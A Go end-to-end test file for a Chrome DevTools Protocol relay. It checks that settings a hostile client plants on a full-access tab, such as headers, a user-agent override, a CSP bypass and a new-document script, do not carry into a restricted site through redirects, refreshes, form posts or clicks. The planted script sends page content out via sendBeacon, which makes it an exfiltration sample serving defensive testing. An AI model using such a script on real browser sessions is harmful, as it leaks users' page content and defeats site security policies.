package e2e

import (
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/cdprelay/cdprelay/internal/testenv"
)

// What a client sets up on its tab while the tab is on a full site — a
// script for new documents, a binding, headers and a user agent for its
// requests, emulation, a bypassed content security policy — acts on every
// page the tab shows later, wherever the tab goes. A hostile client sets
// everything up on a full site and has the tab taken to a blind or
// read-only one, by every way a page can send its tab on: HTTP redirects of
// every kind, a Refresh header, a meta refresh, a script, a form post, a
// link the page clicks, and the person's own navigation. What counts is
// what the sites received and what the person's page shows, never the
// relay's words.

// plantedSetting is a setting the client makes on its full tab, and how
// the person sees on a page whether it is in force there.
type plantedSetting struct {
	method string
	params map[string]any
	// probe is evaluated by the person on the page; in says whether its
	// value shows the setting in force. "" when the effect is looked for
	// elsewhere (on the server, for headers).
	probe string
	in    func(v string) bool
}

// plantedScript is the client's script for new documents: it marks the
// page and sends the page's content to the attacker's address.
func plantedScript() string {
	return `window.__plantedScript = 1;
addEventListener('DOMContentLoaded', () => {
  if (location.host !== ` + quote(host(env.Pages.Main)) + `) navigator.sendBeacon(` + quote(env.Pages.Main+"/tier/act/init-script") + `, document.title + ' ' + document.body.innerText);
});`
}

func plantedSettings(mark string) []plantedSetting {
	is := func(want string) func(string) bool { return func(v string) bool { return v == want } }
	return []plantedSetting{
		{method: "Network.setExtraHTTPHeaders", params: map[string]any{"headers": map[string]string{"X-Planted": mark}}},
		{method: "Network.setUserAgentOverride", params: map[string]any{"userAgent": "planted-agent " + mark},
			probe: "navigator.userAgent", in: func(v string) bool { return strings.Contains(v, "planted-agent") }},
		{method: "Page.setBypassCSP", params: map[string]any{"enabled": true}},
		{method: "Runtime.addBinding", params: map[string]any{"name": "plantedBinding"},
			probe: "typeof window.plantedBinding", in: is(`"function"`)},
		{method: "Emulation.setTimezoneOverride", params: map[string]any{"timezoneId": "Pacific/Kiritimati"},
			probe: "Intl.DateTimeFormat().resolvedOptions().timeZone", in: is(`"Pacific/Kiritimati"`)},
		{method: "Emulation.setLocaleOverride", params: map[string]any{"locale": "fr-CA"},
			probe: "Intl.DateTimeFormat().resolvedOptions().locale", in: is(`"fr-CA"`)},
		{method: "Emulation.setDeviceMetricsOverride", params: map[string]any{"width": 401, "height": 333, "deviceScaleFactor": 1, "mobile": false},
			probe: "innerWidth", in: is("401")},
		{method: "Emulation.setEmulatedMedia", params: map[string]any{"features": []map[string]string{{"name": "prefers-reduced-motion", "value": "reduce"}}},
			probe: "matchMedia('(prefers-reduced-motion: reduce)').matches", in: is("true")},
		{method: "Emulation.setTouchEmulationEnabled", params: map[string]any{"enabled": true, "maxTouchPoints": 7},
			probe: "navigator.maxTouchPoints", in: is("7")},
		{method: "Emulation.setHardwareConcurrencyOverride", params: map[string]any{"hardwareConcurrency": 77},
			probe: "navigator.hardwareConcurrency", in: is("77")},
		{method: "Emulation.setDocumentCookieDisabled", params: map[string]any{"disabled": true},
			probe: "(document.cookie = 'planted=1', document.cookie.includes('planted=1'))", in: is("false")},
		// Neither of these shows to a page of this browser: they are made
		// for their lifting to be gone through.
		{method: "Emulation.setAutomationOverride", params: map[string]any{"enabled": true}},
		{method: "Network.setBlockedURLs", params: map[string]any{"urls": []string{"*/tier/api*"}},
			probe: "fetch('/tier/api').then(() => 'fetched', () => 'blocked')", in: is(`"blocked"`)},
		{method: "WebAuthn.enable", params: map[string]any{}},
		{method: "WebAuthn.addVirtualAuthenticator", params: map[string]any{"options": map[string]any{
			"protocol": "ctap2", "transport": "internal", "hasResidentKey": true, "hasUserVerification": true, "isUserVerified": true}}},
		{method: "Page.addScriptToEvaluateOnNewDocument", params: map[string]any{"source": plantedScript()},
			probe: "typeof window.__plantedScript", in: is(`"number"`)},
	}
}

// plantAll makes every setting on session and reports which Chrome took.
func (a *attacker) plantAll(session string, settings []plantedSetting) []plantedSetting {
	a.t.Helper()
	var took []plantedSetting
	for _, s := range settings {
		if _, err := a.call(session, s.method, s.params); err != nil {
			a.t.Logf("%s was refused on the full site: %v", s.method, err)
			continue
		}
		took = append(took, s)
	}
	return took
}

// carryWays are the ways a page's tab goes on from a full site to to.
// Each returns the address the client sends the tab to (on the full
// site), or "" for the person's own navigation.
var carryWays = []struct {
	name string
	via  func(to string) string
	// post: the navigation carries a form's body, which the relay cannot
	// send again once it has lifted the client's settings: it is refused.
	post bool
}{
	{"301", func(to string) string { return redirectTo(to, "301") }, false},
	{"302", func(to string) string { return redirectTo(to, "302") }, false},
	{"303", func(to string) string { return redirectTo(to, "303") }, false},
	{"307", func(to string) string { return redirectTo(to, "307") }, false},
	{"308", func(to string) string { return redirectTo(to, "308") }, false},
	{"refresh header", func(to string) string { return env.Pages.Main + "/tier/refresh?to=" + url.QueryEscape(to) }, false},
	{"meta refresh", func(to string) string { return env.Pages.Main + "/tier/meta?to=" + url.QueryEscape(to) }, false},
	{"script", func(to string) string { return env.Pages.Main + "/tier/script?to=" + url.QueryEscape(to) }, false},
	{"form post", func(to string) string { return env.Pages.Main + "/tier/post?to=" + url.QueryEscape(to) }, true},
	{"form post 307", func(to string) string {
		return env.Pages.Main + "/tier/post?to=" + url.QueryEscape(redirectTo(to, "307"))
	}, true},
	{"link click", func(to string) string { return env.Pages.Main + "/tier/click?to=" + url.QueryEscape(to) }, false},
	{"person", nil, false},
}

func redirectTo(to, code string) string {
	return env.Pages.Main + "/tier/redirect?code=" + code + "&to=" + url.QueryEscape(to)
}

// TestTierAttackCarryIntoBlind: everything the client set up on a full
// site is out of the tab before a blind site's document commits, however
// the tab got there, and is back once the tab is on a full site again.
func TestTierAttackCarryIntoBlind(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	ctx := testCtx(t, 4*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	for _, way := range carryWays {
		t.Run(way.name, func(t *testing.T) {
			a := &attacker{t: t, ctx: ctx, c: a.c}
			p := &person{t: t, ctx: ctx, c: p.c, before: p.before}
			mark := newMark()
			target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
			defer a.call("", "Target.closeTarget", map[string]any{"targetId": target})
			probe := p.prober(target)
			// As Playwright and Puppeteer do, with the domains on that
			// some settings need.
			for _, m := range []string{"Page.enable", "Runtime.enable", "Network.enable"} {
				if _, err := a.call(s, m, nil); err != nil {
					t.Fatalf("%s: %v", m, err)
				}
			}
			took := a.plantAll(s, plantedSettings(mark))
			// Each setting shows on the next page of the full site.
			full := siteURL(env.Pages.Main, newMark(), false)
			a.call(s, "Page.navigate", map[string]any{"url": full})
			p.waitComplete(target, full)
			for _, st := range took {
				if st.probe != "" && !st.in(probe(st.probe)) {
					t.Errorf("%s did not take on the full site: %s = %s", st.method, st.probe, probe(st.probe))
				}
			}
			if r := env.Pages.Seen(env.Pages.Main, full[strings.Index(full, "m="):]); len(r) == 0 || r[0].Header.Get("X-Planted") != mark {
				t.Errorf("the full site's request went without the client's header: %v", r)
			}

			m := newMark()
			blind := siteURL(env.Pages.Third, m, false) + "&csp=1"
			from := len(a.c.Messages())
			csp := since(env.Pages.Third, "/tier/act/csp-bypassed")
			if way.via == nil {
				p.navigate(target, blind)
			} else {
				// The reply may be withheld: the tab went blind meanwhile.
				a.call(s, "Page.navigate", map[string]any{"url": way.via(blind)})
			}
			a.accessChanged(from, s, "blind")
			if way.post {
				// Refused: the form's post never reaches the blind site, and
				// the tab stays where it was.
				p.waitFor(target, "document.readyState", `"complete"`)
				settle()
				if seen := env.Pages.Seen(env.Pages.Third, "m="+m); len(seen) != 0 {
					t.Errorf("the form's post reached the blind site: %v", seen[0])
				}
				if v := probe("location.origin"); v != quote(env.Pages.Main) {
					t.Errorf("the tab is on %s", v)
				}
			} else {
				p.waitComplete(target, env.Pages.Third)
				// A beacon the page or a script sent at its load has arrived
				// by the time a round trip to the same server has.
				probe("fetch('/tier/act/round-trip').then(() => 1)")
				if len(env.Pages.Seen(env.Pages.Third, "m="+m)) == 0 {
					t.Fatalf("the blind site did not see the tab's request")
				}
			}
			seen := env.Pages.Seen(env.Pages.Third, "m="+m)
			for _, r := range seen {
				if v := r.Header.Get("X-Planted"); v != "" {
					t.Errorf("the blind site received the client's header X-Planted: %s (%s %s)", v, r.Method, r.Path)
				}
				if ua := r.Header.Get("User-Agent"); strings.Contains(ua, "planted-agent") {
					t.Errorf("the blind site received the client's user agent %q", ua)
				}
			}
			if n := csp(); n != 0 {
				t.Errorf("the blind site's content security policy was bypassed: its forbidden script ran (%d)", n)
			}
			if env.Pages.Received(testenv.TierContent(m)) {
				t.Errorf("the client's script for new documents ran on the blind site and sent its content out")
			}
			for _, st := range took {
				if st.probe == "" || way.post {
					continue
				}
				if v := probe(st.probe); st.in(v) {
					t.Errorf("%s is in force on the blind site: %s = %s", st.method, st.probe, v)
				}
			}

			// Back on a full site, the client's set-up is back: its
			// headers on the way there, the rest once the full page has
			// committed (a script for new documents from the next one on:
			// while the blind page is there, it may not be in Chrome).
			back := siteURL(env.Pages.Main, newMark(), false)
			from = len(a.c.Messages())
			a.call(s, "Page.navigate", map[string]any{"url": back})
			a.accessChanged(from, s, "full")
			p.waitComplete(target, back)
			again := siteURL(env.Pages.Main, newMark(), false)
			a.call(s, "Page.navigate", map[string]any{"url": again})
			p.waitComplete(target, again)
			for _, st := range took {
				if st.probe != "" && !st.in(probe(st.probe)) {
					t.Errorf("%s is not back on the full site: %s = %s", st.method, st.probe, probe(st.probe))
				}
			}
			if r := env.Pages.Seen(env.Pages.Main, back[strings.Index(back, "m="):]); len(r) == 0 || r[len(r)-1].Header.Get("X-Planted") != mark {
				t.Errorf("the full site's request went without the client's header: %v", r)
			}
		})
	}
}

// prober gives the person a session of their own on targetID for the rest
// of the test, and returns what evaluating an expression there reads (an
// error's text when it fails). One session throughout: a session's end
// can reset what it did not set.
func (p *person) prober(targetID string) func(expr string) string {
	p.t.Helper()
	s := p.attach(targetID)
	p.t.Cleanup(func() { p.call("", "Target.detachFromTarget", map[string]any{"sessionId": s}) })
	return func(expr string) string {
		res, err := p.call(s, "Runtime.evaluate", map[string]any{"expression": expr, "returnByValue": true, "awaitPromise": true})
		if err != nil {
			return "error: " + err.Error()
		}
		v, err := evalValue(res)
		if err != nil {
			return "error: " + err.Error()
		}
		return v
	}
}
